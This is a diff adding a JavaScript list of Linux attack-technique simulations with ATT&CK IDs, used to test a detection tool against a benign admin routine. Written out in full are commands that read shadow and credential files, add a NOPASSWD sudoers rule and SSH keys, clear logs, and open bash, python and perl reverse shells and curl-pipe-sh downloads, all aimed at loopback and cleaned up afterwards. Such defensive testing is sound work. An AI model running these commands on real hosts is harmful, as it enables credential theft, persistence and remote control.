@@ -1,0 +1,141 @@
+// Attack simulations for bench/attack-sim: each action does what a public attack-simulation suite's
+// test for that technique does on a Linux host, restricted to this host, loopback and temporary
+// files, and undone by its `cleanup`. Written here (not copied from any suite) so the outside
+// check's own suites stay held out.
+//
+// Fields: id, tactic, technique (ATT&CK), name, run (bash, the measured process tree), optional
+// setup/cleanup (bash, run in their own processes before/after and not attributed to the action),
+// optional requires (commands that must exist, else the action is "not runnable here").
+// $T is a private scratch directory, $P a free loopback port, $PY the system python.
+
+const py = (code) => `"$PY" - <<'PYEOF'\n${code}\nPYEOF`;
+
+/** @type {{id:string,tactic:string,technique:string,name:string,run:string,setup?:string,cleanup?:string,requires?:string[]}[]} */
+export const ACTIONS = [
+  // ---- credential access
+  { id: 'cred-shadow-cat', tactic: 'credential-access', technique: 'T1003.008', name: 'read /etc/shadow with cat', run: 'cat /etc/shadow > /dev/null' },
+  { id: 'cred-shadow-fresh-binary', tactic: 'credential-access', technique: 'T1003.008', name: 'a freshly dropped binary reads /etc/shadow', setup: 'cp /usr/bin/head "$T/updater"', run: '"$T/updater" -c 100 /etc/shadow > /dev/null' },
+  { id: 'cred-gshadow', tactic: 'credential-access', technique: 'T1003.008', name: 'read /etc/gshadow with python', run: py('open("/etc/gshadow").read()') },
+  { id: 'cred-ssh-key', tactic: 'credential-access', technique: 'T1552.004', name: 'find and read SSH private keys', setup: 'mkdir -p /root/.ssh && ssh-keygen -q -t ed25519 -N "" -f /root/.ssh/id_vigilsim >/dev/null 2>&1 || head -c 400 /dev/urandom | base64 > /root/.ssh/id_vigilsim', run: 'find /root/.ssh /home -name "id_*" -not -name "*.pub" 2>/dev/null | xargs -r cat > /dev/null', cleanup: 'rm -f /root/.ssh/id_vigilsim /root/.ssh/id_vigilsim.pub' },
+  { id: 'cred-bash-history', tactic: 'credential-access', technique: 'T1552.003', name: 'read shell history for secrets', setup: 'touch /root/.bash_history', run: 'grep -iE "pass|token|secret" /root/.bash_history > /dev/null; cat /root/.bash_history > /dev/null' },
+  { id: 'cred-aws', tactic: 'credential-access', technique: 'T1552.001', name: 'read cloud credentials', setup: 'mkdir -p /root/.aws && [ -e /root/.aws/credentials ] || { printf "[default]\\naws_access_key_id=AKIAVIGILSIM\\n" > /root/.aws/credentials; touch /root/.aws/.vigilsim; }', run: 'cat /root/.aws/credentials > /dev/null', cleanup: '[ -e /root/.aws/.vigilsim ] && rm -rf /root/.aws || true' },
+  { id: 'cred-kube', tactic: 'credential-access', technique: 'T1552.001', name: 'read Kubernetes credentials', setup: 'mkdir -p /root/.kube && [ -e /root/.kube/config ] || { printf "apiVersion: v1\\n" > /root/.kube/config; touch /root/.kube/.vigilsim; }', run: 'cat /root/.kube/config > /dev/null', cleanup: '[ -e /root/.kube/.vigilsim ] && rm -rf /root/.kube || true' },
+  { id: 'cred-proc-environ', tactic: 'credential-access', technique: 'T1003.007', name: "read another process's environment and memory map", run: 'sleep 30 & v=$!; cat /proc/$v/environ > /dev/null; cat /proc/$v/maps > /dev/null; kill $v' },
+  { id: 'cred-proc-mem', tactic: 'credential-access', technique: 'T1003.007', name: "dump another process's memory through /proc/PID/mem", run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
+import sys
+pid = sys.argv[1]
+for line in open(f"/proc/{pid}/maps"):
+    if "[stack]" in line:
+        a, b = (int(x, 16) for x in line.split()[0].split("-"))
+        with open(f"/proc/{pid}/mem", "rb") as m:
+            m.seek(a); m.read(4096)
+PYEOF
+kill $v` },
+
+  // ---- persistence
+  { id: 'persist-cron-d', tactic: 'persistence', technique: 'T1053.003', name: 'drop a file in /etc/cron.d', run: 'echo "# vigil attack simulation" > /etc/cron.d/vigilsim', cleanup: 'rm -f /etc/cron.d/vigilsim' },
+  { id: 'persist-cron-spool', tactic: 'persistence', technique: 'T1053.003', name: "write a user's crontab directly", run: 'mkdir -p /var/spool/cron/crontabs && echo "# vigilsim" >> /var/spool/cron/crontabs/vigilsim', cleanup: 'rm -f /var/spool/cron/crontabs/vigilsim' },
+  { id: 'persist-systemd-unit', tactic: 'persistence', technique: 'T1543.002', name: 'create a systemd service unit', run: 'printf "[Service]\\nExecStart=/bin/true\\n" > /etc/systemd/system/vigilsim.service', cleanup: 'rm -f /etc/systemd/system/vigilsim.service' },
+  { id: 'persist-systemd-timer', tactic: 'persistence', technique: 'T1053.006', name: 'create a systemd timer', run: 'printf "[Timer]\\nOnCalendar=hourly\\n" > /etc/systemd/system/vigilsim.timer', cleanup: 'rm -f /etc/systemd/system/vigilsim.timer' },
+  { id: 'persist-etc-profile', tactic: 'persistence', technique: 'T1546.004', name: 'append to /etc/profile', setup: 'cp -p /etc/profile "$T/profile.bak"', run: 'echo "# vigilsim" >> /etc/profile', cleanup: 'cp -p "$T/profile.bak" /etc/profile' },
+  { id: 'persist-profile-d', tactic: 'persistence', technique: 'T1546.004', name: 'drop a script in /etc/profile.d', run: 'echo "# vigilsim" > /etc/profile.d/vigilsim.sh', cleanup: 'rm -f /etc/profile.d/vigilsim.sh' },
+  { id: 'persist-bashrc', tactic: 'persistence', technique: 'T1546.004', name: "append to root's .bashrc", setup: 'touch /root/.bashrc; cp -p /root/.bashrc "$T/bashrc.bak"', run: 'echo "# vigilsim" >> /root/.bashrc', cleanup: 'cp -p "$T/bashrc.bak" /root/.bashrc' },
+  { id: 'persist-authorized-keys', tactic: 'persistence', technique: 'T1098.004', name: 'add an SSH authorized key', setup: 'mkdir -p /root/.ssh; touch /root/.ssh/authorized_keys; cp -p /root/.ssh/authorized_keys "$T/ak.bak"', run: 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIVigilSimulationKeyOnlyForTestingPurposes vigilsim" >> /root/.ssh/authorized_keys', cleanup: 'cp -p "$T/ak.bak" /root/.ssh/authorized_keys' },
+  { id: 'persist-ld-so-preload', tactic: 'persistence', technique: 'T1574.006', name: 'open /etc/ld.so.preload for writing', setup: '[ -e /etc/ld.so.preload ] && cp -p /etc/ld.so.preload "$T/preload.bak" || true', run: ': >> /etc/ld.so.preload', cleanup: 'if [ -e "$T/preload.bak" ]; then cp -p "$T/preload.bak" /etc/ld.so.preload; else rm -f /etc/ld.so.preload; fi' },
+  { id: 'persist-python-pth', tactic: 'persistence', technique: 'T1546', name: 'drop a Python .pth start-up hook', run: 'd=$("$PY" -c "import site;print(site.getsitepackages()[0])"); mkdir -p "$d" && echo "# vigilsim" > "$d/vigilsim.pth"', cleanup: 'd=$("$PY" -c "import site;print(site.getsitepackages()[0])"); rm -f "$d/vigilsim.pth"' },
+  { id: 'persist-udev-rule', tactic: 'persistence', technique: 'T1546', name: 'drop a udev rule', run: 'mkdir -p /etc/udev/rules.d && echo "# vigilsim" > /etc/udev/rules.d/99-vigilsim.rules', cleanup: 'rm -f /etc/udev/rules.d/99-vigilsim.rules' },
+  { id: 'persist-rc-local', tactic: 'persistence', technique: 'T1037.004', name: 'write rc.local', setup: '[ -e /etc/rc.local ] && cp -p /etc/rc.local "$T/rc.bak" || true', run: 'echo "# vigilsim" >> /etc/rc.local', cleanup: 'if [ -e "$T/rc.bak" ]; then cp -p "$T/rc.bak" /etc/rc.local; else rm -f /etc/rc.local; fi' },
+  { id: 'persist-init-d', tactic: 'persistence', technique: 'T1037', name: 'drop an init script', run: 'printf "#!/bin/sh\\ntrue\\n" > /etc/init.d/vigilsim && chmod +x /etc/init.d/vigilsim', cleanup: 'rm -f /etc/init.d/vigilsim' },
+  { id: 'persist-kernel-module', tactic: 'persistence', technique: 'T1547.006', name: 'try to load a kernel module', run: 'insmod "$T/vigilsim.ko" 2>/dev/null; true', setup: 'head -c 512 /dev/zero > "$T/vigilsim.ko"', requires: ['insmod'] },
+
+  // ---- privilege escalation
+  { id: 'privesc-setuid', tactic: 'privilege-escalation', technique: 'T1548.001', name: 'make a copied shell setuid', setup: 'cp /bin/dash "$T/sh"', run: 'chmod u+s "$T/sh"' },
+  { id: 'privesc-setgid', tactic: 'privilege-escalation', technique: 'T1548.001', name: 'make a binary setgid (octal)', setup: 'cp /bin/true "$T/tr"', run: 'chmod 2755 "$T/tr"' },
+  { id: 'privesc-setcap', tactic: 'privilege-escalation', technique: 'T1548', name: 'grant a file capabilities', setup: 'cp "$PY" "$T/py"', run: 'setcap cap_setuid+ep "$T/py"', requires: ['setcap'] },
+  { id: 'privesc-sudoers', tactic: 'privilege-escalation', technique: 'T1548.003', name: 'add a sudoers rule', setup: 'mkdir -p /etc/sudoers.d && { [ -e /etc/sudoers.d/.vigilsim-dir ] || ls -A /etc/sudoers.d | grep -q . || touch /etc/sudoers.d/.vigilsim-dir; }', run: 'echo "nobody ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/vigilsim', cleanup: 'rm -f /etc/sudoers.d/vigilsim; if [ -e /etc/sudoers.d/.vigilsim-dir ]; then rm -rf /etc/sudoers.d; fi' },
+  { id: 'privesc-unshare-user', tactic: 'privilege-escalation', technique: 'T1611', name: 'unshare a user and mount namespace', run: 'unshare -Urm true' },
+  { id: 'privesc-userfaultfd', tactic: 'privilege-escalation', technique: 'T1068', name: 'open userfaultfd (exploit primitive)', run: py('import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.syscall(323, 0)') },
+
+  // ---- defence evasion
+  { id: 'evade-truncate-log', tactic: 'defense-evasion', technique: 'T1070.002', name: 'truncate a system log', setup: 'echo "line" > /var/log/vigilsim.log', run: 'truncate -s 0 /var/log/vigilsim.log', cleanup: 'rm -f /var/log/vigilsim.log' },
+  { id: 'evade-clear-log-redirect', tactic: 'defense-evasion', technique: 'T1070.002', name: 'clear a log with a redirect', setup: 'echo "line" > /var/log/vigilsim2.log', run: ': > /var/log/vigilsim2.log', cleanup: 'rm -f /var/log/vigilsim2.log' },
+  { id: 'evade-history-clear', tactic: 'defense-evasion', technique: 'T1070.003', name: 'clear bash history file', setup: 'touch /root/.bash_history; cp -p /root/.bash_history "$T/hist.bak"', run: 'cat /dev/null > /root/.bash_history', cleanup: 'cp -p "$T/hist.bak" /root/.bash_history' },
+  { id: 'evade-history-symlink', tactic: 'defense-evasion', technique: 'T1070.003', name: 'link shell history to /dev/null', setup: 'mkdir -p "$T/home"; echo x > "$T/home/.bash_history"', run: 'ln -sf /dev/null "$T/home/.bash_history"' },
+  { id: 'evade-timestomp', tactic: 'defense-evasion', technique: 'T1070.006', name: 'timestomp a file', setup: 'echo x > "$T/implant"', run: 'touch -t 201001010000 "$T/implant"; touch -r /bin/ls "$T/implant"' },
+  { id: 'evade-hidden-system-file', tactic: 'defense-evasion', technique: 'T1564.001', name: 'hide a file in a system directory', run: 'cp /bin/true /usr/bin/.vigilsim', cleanup: 'rm -f /usr/bin/.vigilsim' },
+  { id: 'evade-masquerade-prctl', tactic: 'defense-evasion', technique: 'T1036.004', name: 'rename the process to look like a kernel thread', run: py('import ctypes, time\nlibc = ctypes.CDLL(None)\nlibc.prctl(15, b"[kworker/0:1]", 0, 0, 0)\ntime.sleep(0.2)') },
+  { id: 'evade-masquerade-copy', tactic: 'defense-evasion', technique: 'T1036.005', name: 'run a binary copied under a daemon name', setup: 'cp /bin/sleep "$T/sshd"', run: '"$T/sshd" 0.3' },
+  { id: 'evade-ld-preload', tactic: 'defense-evasion', technique: 'T1574.006', name: 'run a program with LD_PRELOAD', setup: 'cp /lib/x86_64-linux-gnu/libc.so.6 "$T/libhook.so"', run: 'LD_PRELOAD="$T/libhook.so" /bin/true' },
+  { id: 'evade-shred', tactic: 'defense-evasion', technique: 'T1070.004', name: 'shred a file', setup: 'echo secret > "$T/evidence"', run: 'shred -u "$T/evidence"' },
+  { id: 'evade-symlink-shadow', tactic: 'defense-evasion', technique: 'T1222', name: 'symlink to /etc/shadow', run: 'ln -s /etc/shadow "$T/s"' },
+  { id: 'evade-hardlink-shadow', tactic: 'defense-evasion', technique: 'T1222', name: 'hard link to /etc/shadow', run: 'ln /etc/shadow /etc/.vigilsim-shadow', cleanup: 'rm -f /etc/.vigilsim-shadow' },
+  { id: 'evade-write-bin', tactic: 'defense-evasion', technique: 'T1036.005', name: 'drop a binary in /usr/local/bin', run: 'cp /bin/true /usr/local/bin/vigilsim-update', cleanup: 'rm -f /usr/local/bin/vigilsim-update' },
+  { id: 'evade-mkdir-bin', tactic: 'defense-evasion', technique: 'T1564.001', name: 'create a directory below /usr/bin', run: 'mkdir /usr/bin/.vigilsim-dir', cleanup: 'rmdir /usr/bin/.vigilsim-dir' },
+  { id: 'evade-dev-file', tactic: 'defense-evasion', technique: 'T1564.001', name: 'create a file below /dev', run: 'echo x > /dev/.vigilsim', cleanup: 'rm -f /dev/.vigilsim' },
+  { id: 'evade-exec-dev-shm', tactic: 'defense-evasion', technique: 'T1036', name: 'execute from /dev/shm', setup: 'cp /bin/true /dev/shm/vigilsim', run: '/dev/shm/vigilsim', cleanup: 'rm -f /dev/shm/vigilsim' },
+  { id: 'evade-exec-tmp', tactic: 'defense-evasion', technique: 'T1036', name: 'download-style drop and execute from /tmp', run: 'printf "#!/bin/sh\\nid\\n" > /tmp/.vigilsim-x && chmod +x /tmp/.vigilsim-x && /tmp/.vigilsim-x > /dev/null', cleanup: 'rm -f /tmp/.vigilsim-x' },
+  { id: 'evade-exec-deleted', tactic: 'defense-evasion', technique: 'T1070.004', name: 'run a binary and delete it while it runs', setup: 'cp /bin/sleep "$T/gone"', run: '"$T/gone" 1 & rm -f "$T/gone"; wait' },
+  { id: 'evade-memfd-exec', tactic: 'defense-evasion', technique: 'T1620', name: 'execute a binary from an anonymous memory file', run: py('import os\nfd = os.memfd_create("x", 0)\nos.write(fd, open("/bin/true", "rb").read())\npid = os.fork()\nif pid == 0:\n    os.execv(f"/proc/self/fd/{fd}", ["kworker"])\nos.waitpid(pid, 0)') },
+
+  // ---- execution
+  { id: 'exec-bash-reverse-shell', tactic: 'execution', technique: 'T1059.004', name: 'bash reverse shell over /dev/tcp', run: 'timeout 5 bash -c "bash -i >& /dev/tcp/127.0.0.1/$P 0>&1" 2>/dev/null; true', setup: 'listener' },
+  { id: 'exec-python-reverse-shell', tactic: 'execution', technique: 'T1059.006', name: 'python reverse shell with a pty', setup: 'listener', run: `timeout 5 "$PY" -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",'$P'));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")' 2>/dev/null; true` },
+  { id: 'exec-pty-shell', tactic: 'execution', technique: 'T1059.006', name: 'interpreter spawns a shell on a pty', run: `echo exit | timeout 5 "$PY" -c 'import pty; pty.spawn("/bin/sh")' > /dev/null; true` },
+  { id: 'exec-base64-pipe', tactic: 'execution', technique: 'T1027', name: 'decoded pipeline into a shell', run: 'echo "aWQ7IHVuYW1lIC1h" | base64 -d | sh > /dev/null' },
+  { id: 'exec-curl-pipe-sh', tactic: 'execution', technique: 'T1105', name: 'download a script and pipe it into sh', setup: 'webserver', run: 'curl -s "http://127.0.0.1:$P/x.sh" | sh > /dev/null' },
+  { id: 'exec-perl-reverse-shell', tactic: 'execution', technique: 'T1059', name: 'perl reverse shell', setup: 'listener', run: `timeout 5 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($ENV{P},inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};' 2>/dev/null; true`, requires: ['perl'] },
+
+  // ---- discovery
+  { id: 'disc-port-scan', tactic: 'discovery', technique: 'T1046', name: 'scan 1,024 loopback ports from bash', run: 'for p in $(seq 1 1024); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true' },
+  { id: 'disc-accounts', tactic: 'discovery', technique: 'T1087.001', name: 'enumerate local accounts', run: 'cat /etc/passwd > /dev/null; getent passwd > /dev/null; lastlog > /dev/null 2>&1; true' },
+  { id: 'disc-connections', tactic: 'discovery', technique: 'T1049', name: 'enumerate network connections', run: 'ss -tanp > /dev/null; cat /proc/net/tcp > /dev/null' },
+  { id: 'disc-suid-search', tactic: 'discovery', technique: 'T1083', name: 'search for setuid binaries', run: 'find /usr -perm -4000 -type f 2>/dev/null > /dev/null' },
+
+  // ---- injection
+  { id: 'inject-ptrace-attach', tactic: 'defense-evasion', technique: 'T1055.008', name: 'attach to another process with ptrace', run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
+import ctypes, sys, os
+libc = ctypes.CDLL(None, use_errno=True)
+pid = int(sys.argv[1])
+libc.ptrace(16, pid, 0, 0)
+os.waitpid(pid, 0)
+libc.ptrace(17, pid, 0, 0)
+PYEOF
+kill $v` },
+  { id: 'inject-process-vm-writev', tactic: 'defense-evasion', technique: 'T1055', name: "write another process's memory with process_vm_writev", run: `sleep 30 & v=$!; "$PY" - $v <<'PYEOF'
+import ctypes, sys
+libc = ctypes.CDLL(None, use_errno=True)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+buf = ctypes.create_string_buffer(8)
+local = iovec(ctypes.cast(buf, ctypes.c_void_p), 8)
+remote = iovec(0x10000, 8)
+libc.process_vm_writev(int(sys.argv[1]), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+PYEOF
+kill $v` },
+  { id: 'inject-proc-mem-write', tactic: 'defense-evasion', technique: 'T1055', name: "open another process's /proc/PID/mem for writing", run: `sleep 30 & v=$!; "$PY" -c "open('/proc/$v/mem','r+b').close()"; kill $v` },
+
+  // ---- collection and exfiltration
+  { id: 'collect-archive-encrypt-etc', tactic: 'collection', technique: 'T1560.001', name: 'archive and encrypt /etc', run: 'tar czf - /etc/passwd /etc/group /etc/hosts 2>/dev/null | openssl enc -aes-256-cbc -pbkdf2 -pass pass:vigilsim -out "$T/etc.enc"' },
+  { id: 'collect-zip-home', tactic: 'collection', technique: 'T1560.001', name: 'password-protected zip of a home directory', setup: 'mkdir -p "$T/home/docs" && echo data > "$T/home/docs/a.txt"', run: 'cd "$T" && zip -q -r -P vigilsim "$T/loot.zip" home /root/.bashrc', requires: ['zip'] },
+  { id: 'exfil-http-server', tactic: 'exfiltration', technique: 'T1048', name: 'serve files over HTTP with python', run: `timeout 2 "$PY" -m http.server --bind 127.0.0.1 --directory /etc $P > /dev/null 2>&1; true` },
+  { id: 'impact-miner-stratum', tactic: 'impact', technique: 'T1496', name: 'connect to a mining pool (stratum)', setup: 'listener', run: `"$PY" -c 'import socket,json;s=socket.create_connection(("127.0.0.1",'$P'));s.send((json.dumps({"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]})+"\\n").encode());s.close()'` },
+];
+
+/**
+ * The harness's own routine: what a runner and an administrator do around the tests. Run during
+ * learning and again after it: the second run must raise no alert of severity ≥ medium.
+ */
+export const ROUTINE = [
+  'id; whoami; uname -a; hostname; uptime; date',
+  'command -v bash sh python3 curl tar > /dev/null; true',
+  'ls -la /tmp /var/log > /dev/null; df -h > /dev/null; free -m > /dev/null',
+  'ps aux > /dev/null; cat /proc/loadavg /proc/meminfo > /dev/null',
+  'cat /etc/os-release /etc/hostname > /dev/null',
+  'grep -r "PermitRootLogin" /etc/ssh 2>/dev/null > /dev/null; true',
+  'mkdir -p "$T/work" && cd "$T/work" && echo hello > a.txt && tar czf a.tgz a.txt && tar xzf a.tgz && sha256sum a.txt > /dev/null && rm -f a.txt a.tgz',
+  'find /etc -maxdepth 1 -name "*.conf" > /dev/null',
+  '"$PY" -c "import json, os; print(json.dumps(dict(os.uname()._asdict() if hasattr(os.uname(), \'_asdict\') else {})))" > /dev/null',
+  'curl -s -o /dev/null "http://127.0.0.1:$P/" || true',
+  'systemctl --version > /dev/null 2>&1; journalctl --version > /dev/null 2>&1; true',
+  'env | sort > /dev/null; getent hosts localhost > /dev/null',
+];
